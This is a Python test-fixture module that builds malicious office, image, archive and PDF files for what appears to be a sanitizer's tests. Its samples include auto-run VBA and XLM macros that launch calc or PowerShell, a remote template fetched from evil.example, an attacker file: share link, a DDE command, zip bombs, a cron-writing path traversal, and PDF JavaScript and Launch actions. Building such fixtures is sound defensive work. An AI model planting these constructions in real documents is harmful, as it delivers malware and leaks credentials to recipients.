"""Malicious (and ordinary) files built in code for the tests: nothing is downloaded.

The VBA fixtures are real: a Compound File Binary (MS-CFB v3) written from scratch, holding a VBA project
(MS-OVBA: PROJECT stream, _VBA_PROJECT, the compressed `dir` stream and compressed module source) whose
module auto-runs (`AutoOpen` / `Workbook_Open`) and calls `Shell`. olevba parses it like one Word wrote.
"""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

# --- MS-OVBA compression (literal tokens only: valid, just not smaller) --------------------------------


def ovba_compress(data: bytes) -> bytes:
    """A CompressedContainer of literal-only chunks. Literal groups cost 9 bytes per 8, so each chunk carries
    3,000 bytes to stay under the 4,096-byte chunk limit (decompressors take chunks of any length)."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 3000):
        chunk = data[start : start + 3000]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body.append(0)  # flag byte: the next eight tokens are literals
            body += chunk[i : i + 8]
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body  # compressed, signature 0b011, size−3
    return bytes(out)


# --- MS-CFB v3 writer -----------------------------------------------------------------------------------
FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(streams: dict[str, bytes]) -> bytes:
    """A compound file with the given streams ("Macros/VBA/dir" → bytes); storages are implied by paths."""
    # Directory: root (0), then storages and streams.
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index: dict[str, int] = {"": 0}
    for path in sorted(streams):
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index:
                continue
            is_stream = depth == len(parts)
            entries.append({"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": [],
                            "data": streams[path] if is_stream else b""})  # fmt: skip
            index[key] = len(entries) - 1
            entries[index["/".join(parts[: depth - 1])]]["children"].append(index[key])

    mini = bytearray()
    minifat: list[int] = []
    big: list[tuple[int, bytes]] = []
    for i, e in enumerate(entries):
        if e["type"] != 2:
            continue
        data = e["data"]
        if len(data) < 4096:
            start = len(mini) // 64
            count = max(1, -(-len(data) // 64))
            e["start"] = start if data else ENDOFCHAIN
            if data:
                minifat += [start + k + 1 for k in range(count - 1)] + [ENDOFCHAIN]
                mini += data + b"\x00" * (count * 64 - len(data))
        else:
            big.append((i, data))

    sectors: list[bytes] = []
    fat: list[int] = []

    def add_chain(blob: bytes) -> int:
        if not blob:
            return ENDOFCHAIN
        first = len(sectors)
        count = -(-len(blob) // 512)
        for k in range(count):
            sectors.append(blob[k * 512 : (k + 1) * 512].ljust(512, b"\x00"))
            fat.append(first + k + 1 if k < count - 1 else ENDOFCHAIN)
        return first

    minifat_blob = b"".join(struct.pack("<I", v) for v in minifat)
    minifat_start = add_chain(minifat_blob)
    minifat_count = -(-len(minifat_blob) // 512)
    mini_start = add_chain(bytes(mini))
    entries[0]["start"], entries[0]["size"] = mini_start, len(mini)
    for i, data in big:
        entries[i]["start"] = add_chain(data)
    for e in entries:
        if e["type"] == 2:
            e["size"] = len(e["data"])

    def tree(children: list[int]) -> int:
        if not children:
            return NOSTREAM
        ordered = sorted(children, key=lambda c: (len(entries[c]["name"]), entries[c]["name"].upper()))
        mid = len(ordered) // 2
        node = ordered[mid]
        entries[node]["left"] = tree(ordered[:mid])
        entries[node]["right"] = tree(ordered[mid + 1 :])
        return node

    for e in entries:
        e["child"] = tree(e["children"])
    directory = bytearray()
    for e in entries:
        name = e["name"].encode("utf-16-le") + b"\x00\x00"
        directory += name.ljust(64, b"\x00")
        directory += struct.pack("<HBB", len(name), e["type"], 1)
        directory += struct.pack("<III", e.get("left", NOSTREAM), e.get("right", NOSTREAM), e["child"])
        directory += b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16
        directory += struct.pack("<IQ", e.get("start", ENDOFCHAIN) if e["type"] != 1 else 0, e.get("size", 0))
    while len(directory) % 512:
        directory += (b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0)
                      + struct.pack("<III", NOSTREAM, NOSTREAM, NOSTREAM) + b"\x00" * 52)  # fmt: skip
    dir_start = add_chain(bytes(directory))

    n_fat = 1
    while (len(sectors) + n_fat) > n_fat * 128:
        n_fat += 1
    fat_start = len(sectors)
    fat += [FATSECT] * n_fat
    fat += [FREESECT] * (n_fat * 128 - len(fat))
    fat_blob = b"".join(struct.pack("<I", v) for v in fat)
    for k in range(n_fat):
        sectors.append(fat_blob[k * 512 : (k + 1) * 512])

    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
    header += struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, 4096,
                          minifat_start if minifat else ENDOFCHAIN, minifat_count, ENDOFCHAIN, 0)  # fmt: skip
    difat = [fat_start + k for k in range(n_fat)] + [FREESECT] * (109 - n_fat)
    header += b"".join(struct.pack("<I", v) for v in difat)
    return bytes(header) + b"".join(sectors)


# --- A VBA project ---------------------------------------------------------------------------------------
def _rec(rid: int, payload: bytes) -> bytes:
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_dir(modules: list[tuple[str, bool]]) -> bytes:
    """The decompressed `dir` stream: project information, no references, the modules (name, is_document)."""
    out = _rec(0x0001, struct.pack("<I", 1))  # SYSKIND win32
    out += _rec(0x0002, struct.pack("<I", 0x409)) + _rec(0x0014, struct.pack("<I", 0x409))
    out += _rec(0x0003, struct.pack("<H", 1252))
    out += _rec(0x0004, b"Project")
    out += _rec(0x0005, b"") + _rec(0x0040, b"")  # docstring + unicode
    out += _rec(0x0006, b"") + _rec(0x003D, b"")  # help file 1 + 2
    out += _rec(0x0007, struct.pack("<I", 0)) + _rec(0x0008, struct.pack("<I", 0))
    out += struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION
    out += _rec(0x000C, b"") + _rec(0x003C, b"")  # constants + unicode
    out += struct.pack("<HIH", 0x000F, 2, len(modules))  # PROJECTMODULES
    out += _rec(0x0013, struct.pack("<H", 0xFFFF))  # PROJECTCOOKIE
    for name, is_document in modules:
        raw, uni = name.encode("cp1252"), name.encode("utf-16-le")
        out += _rec(0x0019, raw) + _rec(0x0047, uni)
        out += _rec(0x001A, raw) + _rec(0x0032, uni)
        out += _rec(0x001C, b"") + _rec(0x0048, b"")
        out += _rec(0x0031, struct.pack("<I", 0))  # source at offset 0 of the module stream
        out += _rec(0x001E, struct.pack("<I", 0)) + _rec(0x002C, struct.pack("<H", 0xFFFF))
        out += struct.pack("<HI", 0x0022 if is_document else 0x0021, 0)
        out += struct.pack("<HI", 0x002B, 0)
    out += struct.pack("<HI", 0x0010, 0)
    return out


AUTOOPEN_SOURCE = (
    'Attribute VB_Name = "Module1"\r\n'
    "Sub AutoOpen()\r\n"
    '    Shell "cmd.exe /c calc.exe", vbHide\r\n'
    "End Sub\r\n"
)
WORKBOOK_OPEN_SOURCE = (
    'Attribute VB_Name = "ThisWorkbook"\r\n'
    "Private Sub Workbook_Open()\r\n"
    '    CreateObject("WScript.Shell").Run "powershell -enc AAAA"\r\n'
    "End Sub\r\n"
)


def vba_streams(prefix: str = "", source: str = AUTOOPEN_SOURCE, module: str = "Module1") -> dict[str, bytes]:
    project = f'ID="{{00000000-0000-0000-0000-000000000000}}"\r\nModule={module}\r\nName="Project"\r\n'
    return {
        f"{prefix}PROJECT": project.encode("cp1252"),
        f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        f"{prefix}VBA/dir": ovba_compress(vba_dir([(module, False)])),
        f"{prefix}VBA/{module}": ovba_compress(source.encode("cp1252")),
    }


def vba_project_bin(source: str = AUTOOPEN_SOURCE, module: str = "Module1") -> bytes:
    return cfb(vba_streams("", source, module))


def legacy_doc_with_macro() -> bytes:
    """A Word 97-2003 file (OLE) with a VBA project in Macros/ whose AutoOpen runs a shell command."""
    streams = {"WordDocument": b"\xec\xa5" + b"\x00" * 5000, "1Table": b"\x00" * 600}
    streams.update(vba_streams("Macros/"))
    return cfb(streams)


def legacy_doc_plain() -> bytes:
    return cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 5000, "1Table": b"\x00" * 600})


# --- OOXML -----------------------------------------------------------------------------------------------
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _zip(parts: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return buf.getvalue()


def docm_with_autoopen(*, with_template_injection: bool = True, gps_image: bool = True) -> bytes:
    """A macro-enabled Word document: vbaProject.bin (AutoOpen → Shell), vbaData.xml, a remote template
    (the macro-fetching trick), an https link (kept), a file: link (removed) and a photo with GPS."""
    settings_rels = ""
    if with_template_injection:
        settings_rels = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{_CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Default Extension="jpeg" ContentType="image/jpeg"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
            '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
            '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{_W}" xmlns:r="{_R}">'
            "<w:body><w:p><w:r><w:t>申請書</w:t></w:r></w:p>"
            '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>デジタル庁</w:t></w:r></w:hyperlink></w:p>'
            '<w:p><w:hyperlink r:id="rId6"><w:r><w:t>共有フォルダ</w:t></w:r></w:hyperlink></w:p>'
            "</w:body></w:document>"
        ),
        "word/_rels/document.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS}">'
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'settings" Target="settings.xml"/>'
            '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'image" Target="media/image1.jpeg"/>'
            '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://www.digital.go.jp/" TargetMode="External"/>'
            '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="file://///attacker/share/x.lnk" TargetMode="External"/>'
            "</Relationships>"
        ),
        "word/settings.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
            + ('<w:attachedTemplate r:id="rId1"/>' if with_template_injection else "")
            + "</w:settings>"
        ),
        "word/vbaProject.bin": vba_project_bin(),
        "word/_rels/vbaProject.bin.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS}">'
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" '
            'Target="vbaData.xml"/></Relationships>'
        ),
        "word/vbaData.xml": '<?xml version="1.0" encoding="UTF-8"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
    }  # fmt: skip
    if with_template_injection:
        parts["word/_rels/settings.xml.rels"] = settings_rels
    if gps_image:
        parts["word/media/image1.jpeg"] = jpeg_with_gps()
    return _zip(parts)


def xlsm_with_xlm_macro_sheet() -> bytes:
    """A macro-enabled workbook with an Excel 4.0 macro sheet run by an Auto_Open name, and a VBA project."""
    S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return _zip({
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{_CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{S}" xmlns:r="{_R}"><sheets>'
            '<sheet name="申請一覧" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets>'
            '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
            '<definedName name="合計">申請一覧!$B$2</definedName></definedNames></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
            'Target="macrosheets/sheet1.xml"/>'
            '<Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{S}"><sheetData>'
            '<row r="2"><c r="B2"><v>42</v></c></row></sheetData></worksheet>'
        ),
        "xl/macrosheets/sheet1.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet '
            'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{S}"><sheetData>'
            '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>'
            "</sheetData></xm:macrosheet>"
        ),
        "xl/vbaProject.bin": vba_project_bin(WORKBOOK_OPEN_SOURCE, "ThisWorkbook"),
    })  # fmt: skip


def docx_with_dde() -> bytes:
    parts = {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{_CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{_W}"><w:body><w:p>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
            '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
        ),
    }  # fmt: skip
    return _zip(parts)


# --- Images ----------------------------------------------------------------------------------------------
def jpeg_with_gps(size: tuple[int, int] = (64, 48), orientation: int = 1) -> bytes:
    im = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "ExampleCam"  # Make
    exif[0x0132] = "2024:05:01 09:30:00"  # DateTime
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (35.0, 41.0, 22.2)  # 35°41'22" N: 東京都庁
    gps[3], gps[4] = "E", (139.0, 41.0, 30.1)
    buf = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>'
    im.save(buf, "JPEG", exif=exif.tobytes(), comment=b"secret comment", xmp=xmp)
    return buf.getvalue()


def png_with_text() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "山田太郎")
    info.add_itxt("Comment", "住所: 東京都千代田区", lang="ja")
    buf = io.BytesIO()
    Image.new("RGBA", (10, 10), (0, 0, 255, 128)).save(buf, "PNG", pnginfo=info)
    return buf.getvalue()


def png_pixel_flood(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny PNG whose header claims width × height pixels (8-bit RGB): decoding it would need ~30 GB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


def gif_animated() -> bytes:
    frames = [Image.new("RGB", (20, 20), color) for color in ("red", "green", "blue")]
    buf = io.BytesIO()
    frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0, comment=b"hello")
    return buf.getvalue()


def webp_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "ExampleCam"
    buf = io.BytesIO()
    Image.new("RGB", (16, 16), "green").save(buf, "WEBP", exif=exif.tobytes(), quality=80)
    return buf.getvalue()


# --- Archives --------------------------------------------------------------------------------------------
def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return buf.getvalue()


def zip_bomb_ratio(size: int = 20 * 1024 * 1024) -> bytes:
    """One member of `size` zeros: deflate squeezes it about 1000:1."""
    return zip_of({"report.txt": b"\x00" * size})


def zip_bomb_nested(copies: int = 10, size: int = 20 * 1024 * 1024) -> bytes:
    """42.zip in small: a ZIP of `copies` ZIPs, each holding `size` zeros. The outer members are already
    compressed (ratio ≈ 1), so only looking inside each nested ZIP before inflating it finds the bomb."""
    inner = zip_of({"zeros.bin": b"\x00" * size})
    return zip_of({f"inner{i}.zip": inner for i in range(copies)})


def zip_nested_over_budget(leaf_mib: int = 1, width: int = 4, outer: int = 2) -> bytes:
    """Levels whose every member is within the ratio limit (incompressible data) but whose expansion, added
    over the nesting levels, is outer × width × leaf MiB."""
    leaf = base64.b64encode(random.Random(8).randbytes(leaf_mib * 768 * 1024))  # text, barely compressible
    level1 = zip_of({f"data{i}.txt": leaf for i in range(width)}, zipfile.ZIP_STORED)
    return zip_of({f"batch{i}.zip": level1 for i in range(outer)}, zipfile.ZIP_STORED)


def zip_deeply_nested(levels: int = 5) -> bytes:
    blob = zip_of({"note.txt": "申請書です。\n".encode()})
    for level in range(levels - 1):
        blob = zip_of({f"level{level}.zip": blob})
    return blob


def zip_overlapping_bomb(copies: int = 200) -> bytes:
    """Fifield's non-recursive bomb: many central-directory entries pointing at one member's data. The data
    is incompressible here, so that the ratio check passes and only the overlap check can stop it."""
    single = zip_of({"a.bin": random.Random(1).randbytes(256 * 1024)})
    central_at = single.index(b"PK\x01\x02")
    local, central = single[:central_at], single[central_at : single.index(b"PK\x05\x06")]
    entries = b""
    for i in range(copies):
        name = f"{i:04d}.bin".encode()
        entry = bytearray(central[:46])
        entry[28:30] = struct.pack("<H", len(name))
        entry[30:32] = b"\x00\x00"  # no extra field
        entries += bytes(entry) + name
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(entries), len(local), 0)
    return local + entries + eocd


def zip_traversal() -> bytes:
    return zip_of({"ok.txt": b"hello\n", "../../../../etc/cron.d/evil": b"* * * * * root id\n"})


# --- PDF -------------------------------------------------------------------------------------------------
def pdf_plain(pages: int = 2) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def pdf_with_javascript_and_attachment() -> bytes:
    """Two pages; JavaScript on open, in the document names and on a page; a Launch link; an embedded file
    (in the EmbeddedFiles tree and as a FileAttachment annotation); an XFA form; an https link (kept) and a
    file: link (removed); a bookmark that runs JavaScript."""
    pdf = pikepdf.new()
    for _ in range(2):
        pdf.add_blank_page(page_size=(595, 842))
    js = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pwned');"))
    )
    pdf.Root.OpenAction = js
    payload = pikepdf.Stream(pdf, b"MZ\x90\x00 this would be malware.exe")
    payload.Type = pikepdf.Name.EmbeddedFile
    filespec = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("invoice.exe"), UF=pikepdf.String("invoice.exe"),
        EF=pikepdf.Dictionary(F=payload),
    ))  # fmt: skip
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), js])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("invoice.exe"), filespec])),
    )
    pdf.Root.AA = pikepdf.Dictionary(
        WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()"))
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Stream(pdf, b"<xdp:xdp/>"))
    page = pdf.pages[0]
    page.obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("y()"))
    )

    def link(action: pikepdf.Dictionary, y: int) -> pikepdf.Dictionary:
        return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                  Rect=pikepdf.Array([50, y, 200, y + 20]), A=action)  # fmt: skip

    page.obj.Annots = pdf.make_indirect(pikepdf.Array([
        pdf.make_indirect(link(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")), 700)),
        pdf.make_indirect(link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.digital.go.jp/")), 650)),
        pdf.make_indirect(link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file://attacker/share")), 600)),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                             Rect=pikepdf.Array([10, 10, 30, 30]), FS=filespec)),
    ]))  # fmt: skip
    outline = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("はじめに"), A=js))
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=outline,
                                                              Last=outline, Count=1))  # fmt: skip
    outline.Parent = pdf.Root.Outlines
    buf = io.BytesIO()
    pdf.save(buf, compress_streams=False)  # so that the tests can find the payload in the raw bytes
    return buf.getvalue()


def pdf_with_appended_zip() -> bytes:
    return pdf_plain(1) + zip_of({"payload.exe": b"MZ" + b"\x00" * 100})


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG that is also a valid ZIP (zip readers find the central directory from the end)."""
    jpeg = jpeg_with_gps()
    z = zip_of({"payload.js": b"WScript.Echo('x')"})
    return jpeg + z
